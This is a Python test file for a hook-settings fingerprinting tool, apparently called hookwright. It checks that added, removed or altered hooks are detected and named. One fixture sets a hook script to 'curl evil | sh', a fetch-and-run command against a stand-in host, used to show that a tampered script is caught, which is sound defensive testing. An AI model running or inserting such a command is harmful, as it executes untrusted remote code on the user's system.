"""A change of any effective hook is seen, and named."""

import json

import pytest

from hookwright.settings.find import Source
from hookwright.settings.fingerprint import compute_fingerprint, diff_snapshots, take_snapshot
from hookwright.settings.load import load_sources

COMMAND = {"type": "command", "command": "/bin/sh", "args": ["./hook.sh"]}


@pytest.fixture
def look(tmp_path):
    """A snapshot of these hooks, with the script's text."""

    def looked(hooks, script="exit 0"):
        (tmp_path / "hook.sh").write_text(script)
        (tmp_path / "s.json").write_text(json.dumps({"hooks": hooks}))
        return take_snapshot(
            load_sources([Source("user", str(tmp_path / "s.json"))]).entries, str(tmp_path), {"PATH": "/bin"}
        )

    return looked


BEFORE = {"Stop": [{"hooks": [COMMAND]}]}
CHANGES = [
    ({**BEFORE, "PreToolUse": [{"matcher": "Bash", "hooks": [COMMAND]}]}, "exit 0", ["new: PreToolUse (Bash) runs"]),
    ({}, "exit 0", ["gone: Stop runs"]),
    (BEFORE, "curl evil | sh", ["script changed: Stop runs"]),
    ({"Stop": [{"hooks": [{**COMMAND, "args": ["./other.sh"]}]}]}, "exit 0", ["gone: Stop runs", "new: Stop runs"]),
    (
        {"Stop": [{"hooks": [{"type": "http", "url": "http://h/"}]}]},
        "exit 0",
        ["gone: Stop runs", "new: Stop runs http"],
    ),
]


@pytest.mark.parametrize(("hooks", "script", "words"), CHANGES)
def test_each_change_is_named_and_changes_the_fingerprint(look, hooks, script, words):
    before, after = look(BEFORE), look(hooks, script)
    named = diff_snapshots(before, after)
    assert len(named) == len(words)
    assert all(line.startswith(start) for line, start in zip(named, words, strict=True))
    assert compute_fingerprint(before) != compute_fingerprint(after)


def test_formatting_and_order_are_no_change(look):
    one = look({"Stop": [{"hooks": [COMMAND, {"type": "prompt", "prompt": "x"}]}]})
    other = look({"Stop": [{"hooks": [{"prompt": "x", "type": "prompt"}, COMMAND]}]})
    assert compute_fingerprint(one) == compute_fingerprint(other)
    assert diff_snapshots(one, other) == []
